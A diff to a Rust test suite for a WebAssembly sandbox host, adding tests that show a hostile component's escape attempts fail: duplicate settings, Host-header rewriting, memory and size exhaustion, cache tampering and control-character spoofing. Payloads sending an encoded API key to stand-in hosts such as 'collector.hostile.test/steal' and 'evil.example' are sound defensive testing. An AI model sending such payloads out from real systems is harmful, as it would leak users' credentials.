@@ -30,7 +30,7 @@ async fn call(rt: &Runtime, action: &str) -> (Result<String, sluice::Error>, Vec
 async fn call_with(rt: &Runtime, action: &str, payload: Value) -> (Result<String, sluice::Error>, Vec<sluice::egress::Exchange>) {
     let module = rt.load_path(&component("sluice-hostile")).await.expect("load hostile");
     let settings = Settings::split(&module.description, &json!({"apiKey": SECRET, "region": "eu"})).unwrap();
-    let call = rt.perform(&rt.client(module, &settings), action, &payload).await;
+    let call = rt.perform(&rt.client(module, &settings).expect("client"), action, &payload).await;
     (call.result.map(|o| o.body), call.exchanges)
 }
 
@@ -237,4 +237,281 @@ async fn a_call_may_make_only_so_many_requests() {
     assert_eq!(err.kind, Kind::Egress);
     assert!(err.message.contains("more than 1000 requests in one call"), "{}", err.message);
     assert!(exchanges.len() <= 1001);
+}
+
+// ---- The holes an attack found (and that stay closed) ----
+
+/// A copy of the hostile component whose `describe` answers with `variant`.
+fn hostile_variant(variant: &str) -> std::path::PathBuf {
+    let marker = b"sluice-hostile-variant:normal...........";
+    let mut bytes = std::fs::read(component("sluice-hostile")).unwrap();
+    let at = bytes.windows(marker.len()).position(|w| w == marker).expect("the variant marker is in the component");
+    let mut patched = format!("sluice-hostile-variant:{variant}").into_bytes();
+    patched.resize(marker.len(), b'.');
+    bytes[at..at + marker.len()].copy_from_slice(&patched);
+    let dir = support::root().join("target/test-modules/variants");
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join(format!("hostile-{variant}.wasm"));
+    std::fs::write(&path, bytes).unwrap();
+    path
+}
+
+async fn refused_at_load(path: &std::path::Path, needle: &str) {
+    let (rt, _s) = setup().await;
+    let err = rt.load_path(path).await.err().expect("the host refuses the module");
+    assert_eq!(err.kind, Kind::Config, "{}", err.message);
+    assert!(err.message.contains(needle), "{:?} lacks {needle:?}", err.message);
+}
+
+#[tokio::test]
+async fn a_setting_declared_twice_is_refused_at_load() {
+    // Once secret, once public: the public copy would have handed the key to the guest.
+    refused_at_load(&hostile_variant("dup-secret"), "settings.apiKey: 'apiKey' is declared more than once").await;
+}
+
+#[tokio::test]
+async fn actions_fields_and_presets_declared_twice_are_refused_at_load() {
+    refused_at_load(&hostile_variant("dup-action"), "actions.ok: 'ok' is declared more than once").await;
+    refused_at_load(&hostile_variant("dup-field"), "actions.ok.fields.id: 'id' is declared more than once").await;
+    refused_at_load(&hostile_variant("dup-preset"), "presets.Twice: 'Twice' is declared more than once").await;
+}
+
+#[tokio::test]
+async fn an_auth_binding_may_not_write_the_host_header() {
+    refused_at_load(&hostile_variant("host-header"), "auth[0].header: 'host' frames or routes the request").await;
+}
+
+/// The hostile component with `count` more core instances appended, each
+/// with its own memory of `mib` MiB.
+fn with_extra_memories(count: u32, mib: u64) -> std::path::PathBuf {
+    use wasm_encoder::{InstanceSection, MemorySection, MemoryType, Module, ModuleSection};
+    let mut bytes = std::fs::read(component("sluice-hostile")).unwrap();
+    // The appended module's index is the number of top-level core modules.
+    let (mut depth, mut modules) = (0u32, 0u32);
+    for payload in wasmparser::Parser::new(0).parse_all(&bytes) {
+        match payload.unwrap() {
+            wasmparser::Payload::ModuleSection { .. } => {
+                if depth == 0 {
+                    modules += 1;
+                }
+                depth += 1;
+            }
+            wasmparser::Payload::ComponentSection { .. } => depth += 1,
+            wasmparser::Payload::End(_) => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+    }
+    let mut memories = MemorySection::new();
+    memories.memory(MemoryType { minimum: mib * 16, maximum: None, memory64: false, shared: false, page_size_log2: None });
+    let mut module = Module::new();
+    module.section(&memories);
+    let mut extra = wasm_encoder::Component::new();
+    extra.section(&ModuleSection(&module));
+    let mut instances = InstanceSection::new();
+    for _ in 0..count {
+        instances.instantiate(modules, Vec::<(&str, wasm_encoder::ModuleArg)>::new());
+    }
+    extra.section(&instances);
+    bytes.extend_from_slice(&extra.finish()[8..]);
+    let dir = support::root().join("target/test-modules/variants");
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join(format!("hostile-{count}x{mib}mib.wasm"));
+    std::fs::write(&path, bytes).unwrap();
+    path
+}
+
+#[tokio::test]
+async fn the_memory_cap_holds_for_all_memories_of_a_call() {
+    // Eight memories of 8 MiB each: every one is under the 32 MiB cap, together they are not.
+    let (rt, _s) = setup().await;
+    let err = rt.load_path(&with_extra_memories(8, 8)).await.err().expect("refused");
+    assert_eq!(err.kind, Kind::Guest, "{}", err.message);
+    assert!(err.message.contains("over the limit of 33554432 bytes per call"), "{}", err.message);
+    // Two such memories fit, and the component works.
+    let module = rt.load_path(&with_extra_memories(2, 8)).await.expect("within the cap");
+    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET})).unwrap();
+    rt.perform(&rt.client(module, &settings).expect("client"), "ok", &json!({})).await.result.expect("ok");
+}
+
+#[tokio::test]
+async fn header_bytes_are_capped_per_request() {
+    let (rt, server) = setup().await;
+    let (result, exchanges) = call(&rt, "big-header").await;
+    let err = result.expect_err("a 1 MiB header");
+    assert_eq!(err.kind, Kind::Egress, "{}", err.message);
+    assert!(err.message.contains("headers are larger than 65536 bytes"), "{}", err.message);
+    assert!(server.seen().is_empty());
+    assert!(serde_json::to_string(&exchanges).unwrap().len() < 4096, "the host keeps a summary, not the header");
+}
+
+#[tokio::test]
+async fn one_call_may_send_only_so_many_bytes_and_the_host_keeps_summaries() {
+    // In dry-run the host used to keep every body until the call ended.
+    let server = Recorder::start().await;
+    let egress = sluice::egress::Egress::new(vec![server.route(API)], Default::default(), true);
+    let mut opts = sluice::Options::new(egress);
+    opts.cache_dir = Some(support::cache_dir());
+    let rt = Runtime::new(opts).unwrap();
+    let (result, exchanges) = call(&rt, "big-bodies").await;
+    let err = result.expect_err("stopped");
+    assert_eq!(err.kind, Kind::Egress, "{}", err.message);
+    assert!(err.message.contains("more than 67108864 bytes in one call"), "{}", err.message);
+    assert!(exchanges.len() <= 17, "{} requests", exchanges.len());
+    let kept = serde_json::to_string(&exchanges).unwrap().len();
+    assert!(kept < (1 << 20) + 64 * 1024, "kept {kept} bytes of summaries");
+}
+
+fn encodings(secret: &str) -> Vec<String> {
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    use base64::Engine;
+    vec![
+        secret.to_string(),
+        STANDARD.encode(format!("Bearer {secret}")),
+        URL_SAFE_NO_PAD.encode(format!("x{secret}")),
+        hex::encode(secret),
+        hex::encode_upper(secret),
+        secret.bytes().map(|b| format!("%{b:02X}")).collect(),
+    ]
+}
+
+#[tokio::test]
+async fn a_key_echoed_back_in_any_common_encoding_never_reaches_the_guest_or_the_operator() {
+    let (rt, server) = setup().await;
+    let echoed = encodings(SECRET).join(" | ");
+    server.answer_with(200, &format!(r#"{{"echo":"{echoed}"}}"#));
+    let (result, _) = call(&rt, "echo").await;
+    let err = result.expect_err("echo fails on purpose");
+    for form in encodings(SECRET) {
+        assert!(!err.message.contains(&form), "{form} in {}", err.message);
+    }
+    assert!(err.message.contains("[redacted]"), "{}", err.message);
+}
+
+#[tokio::test]
+async fn a_guest_error_carrying_the_key_is_redacted() {
+    let (rt, _s) = setup().await;
+    for form in encodings(SECRET) {
+        let (result, _) = call_with(&rt, "say", json!({"message": format!("got it: {form}")})).await;
+        let err = result.expect_err("say fails");
+        assert!(!err.message.contains(&form), "{form} in {}", err.message);
+    }
+}
+
+#[tokio::test]
+async fn egress_carrying_the_key_outside_its_binding_is_refused() {
+    let (rt, server) = setup().await;
+    for form in encodings(SECRET) {
+        let to = "https://collector.hostile.test/steal";
+        for payload in [
+            json!({"url": to, "body": format!("k={form}")}),
+            json!({"url": format!("{to}?k={form}")}),
+            json!({"url": to, "headers": {"x-data": form}}),
+            json!({"url": format!("{API}/ok"), "body": form}),
+        ] {
+            let (result, _) = call_with(&rt, "send-given", payload.clone()).await;
+            let err = result.expect_err("refused");
+            assert_eq!(err.kind, Kind::Egress, "{payload}: {}", err.message);
+            assert!(err.message.contains("may not send a secret's value"), "{payload}: {}", err.message);
+            assert!(!err.message.contains(&form));
+        }
+    }
+    assert!(server.seen().is_empty());
+}
+
+#[tokio::test]
+async fn a_compile_cache_others_can_write_is_not_used() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = support::root().join("target/test-cache-shared");
+    let _ = std::fs::remove_dir_all(&dir);
+    let load = |dir: std::path::PathBuf| async move {
+        let mut opts = sluice::Options::new(sluice::egress::Egress::new(vec![], Default::default(), true));
+        opts.cache_dir = Some(dir);
+        Runtime::new(opts).unwrap().load_path(&component("sluice-hostile")).await.unwrap().from_cache
+    };
+    // A fresh cache is created private, and used on the next start.
+    assert!(!load(dir.clone()).await);
+    assert_eq!(std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777, 0o700);
+    let entry = std::fs::read_dir(&dir).unwrap().next().unwrap().unwrap().path();
+    assert_eq!(std::fs::metadata(&entry).unwrap().permissions().mode() & 0o777, 0o600);
+    assert!(load(dir.clone()).await, "a private cache is used");
+    // An entry others could have patched is not deserialised.
+    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o666)).unwrap();
+    assert!(!load(dir.clone()).await, "a group- or world-writable entry is refused");
+    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o600)).unwrap();
+    // Nor is any entry in a folder others can write.
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
+    assert!(!load(dir.clone()).await, "a world-writable folder is refused");
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
+    assert!(load(dir).await);
+}
+
+#[tokio::test]
+async fn control_characters_in_a_description_are_refused_at_load() {
+    // ESC sequences would rewrite what `describe` shows (a forged `hosts:` line).
+    refused_at_load(&hostile_variant("escapes"), "contains a control character").await;
+}
+
+#[tokio::test]
+async fn a_huge_guest_error_is_cut() {
+    let (rt, _s) = setup().await;
+    let err = expect_error(&rt, "huge-error", Kind::Guest, "bytes cut").await;
+    assert!(err.message.len() <= sluice::printable::MAX_GUEST_TEXT + 64, "{} bytes", err.message.len());
+}
+
+#[tokio::test]
+async fn a_sleeping_guest_meets_the_wall_clock_deadline_not_the_cpu_limit() {
+    let server = Recorder::start().await;
+    let rt = runtime_with(vec![server.route(API)], |o| {
+        o.limits.cpu = Duration::from_millis(200);
+        o.limits.wall = Duration::from_millis(1500);
+    });
+    // Sleeping 600 ms is three times the CPU limit, but it is waiting, not computing.
+    let (result, _) = call_with(&rt, "sleep", json!({"ms": 600})).await;
+    result.expect("sleeping is not CPU time");
+    let (result, _) = call_with(&rt, "sleep", json!({"ms": 5000})).await;
+    let err = result.expect_err("over the deadline");
+    assert_eq!(err.kind, Kind::Guest);
+    assert!(err.message.contains("wall-clock deadline of 1.5s"), "{}", err.message);
+    assert!(!err.message.contains("more than 200ms of CPU time"), "{}", err.message);
+    // A busy loop is still reported as CPU.
+    let (result, _) = call_with(&rt, "loop", json!({})).await;
+    assert!(result.expect_err("loop").message.contains("more than 200ms of CPU time"));
+}
+
+async fn constrained_client(rt: &Runtime, region: &str) -> Result<sluice::Client, sluice::Error> {
+    let module = rt.load_path(&hostile_variant("constrained")).await.expect("load");
+    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET, "region": region})).unwrap();
+    rt.client(module, &settings)
+}
+
+#[tokio::test]
+async fn a_setting_that_decides_an_origin_is_held_to_the_modules_pattern() {
+    let (rt, _s) = setup().await;
+    // Where the key would go is checked when the settings load, naming the setting.
+    let err = constrained_client(&rt, "https://evil.example").await.err().expect("refused");
+    assert_eq!(err.kind, Kind::Validation);
+    assert!(err.message.contains("setting 'region' is https://evil.example, which is outside https://*.hostile.test"), "{}", err.message);
+    assert!(err.message.contains("--allow-origin https://evil.example"), "{}", err.message);
+    for bad in ["https://hostile.test.evil.example", "http://eu.hostile.test", "eu"] {
+        let err = constrained_client(&rt, bad).await.err().expect(bad);
+        assert!(err.message.contains("setting 'region'"), "{bad}: {}", err.message);
+    }
+    constrained_client(&rt, "https://eu.api.hostile.test").await.expect("within the pattern");
+
+    // The operator may allow a custom domain.
+    let server = Recorder::start().await;
+    let rt = runtime_with(vec![server.route("https://evil.example")], |o| {
+        o.allow_origins = vec![url::Url::parse("https://evil.example").unwrap().origin()];
+    });
+    constrained_client(&rt, "https://evil.example").await.expect("allowed by the operator");
+}
+
+#[tokio::test]
+async fn talon_ones_deployment_must_be_a_talon_one_origin() {
+    let (rt, _s) = setup().await;
+    let module = rt.load_path(&component("sluice-talon-one")).await.unwrap();
+    let split = |d: &str| Settings::split(&module.description, &json!({"apiKey": SECRET, "deployment": d})).unwrap();
+    let err = rt.client(module.clone(), &split("https://evil.example")).err().expect("refused");
+    assert!(err.message.contains("setting 'deployment' is https://evil.example"), "{}", err.message);
+    rt.client(module.clone(), &split("https://acme.europe-west1.talon.one")).expect("a Talon.One deployment");
 }
